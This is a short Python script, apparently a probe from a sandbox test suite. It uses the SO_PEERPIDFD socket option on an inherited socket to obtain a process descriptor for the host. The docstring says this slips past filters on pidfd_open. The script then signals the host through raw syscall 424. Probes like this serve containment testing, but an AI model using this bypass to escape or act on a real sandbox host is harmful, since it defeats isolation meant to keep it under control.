# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Ask the wire who its other end is: the kernel hands out a descriptor of the host's process.

SO_PEERPIDFD of Linux 6.5, which no filter of pidfd_open sees; then signal the host through it.
"""

# act: signal

import ctypes
import socket
import struct

libc = ctypes.CDLL(None, use_errno=True)
SO_PEERCRED, SO_PEERPIDFD = 17, 77
wire = socket.socket(fileno=3)
pid, _, _ = struct.unpack('3i', wire.getsockopt(socket.SOL_SOCKET, SO_PEERCRED, 12))
fd = wire.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD)
wire.detach()
print(pid == HOST_PID, fd, libc.syscall(424, fd, 10, None, 0))
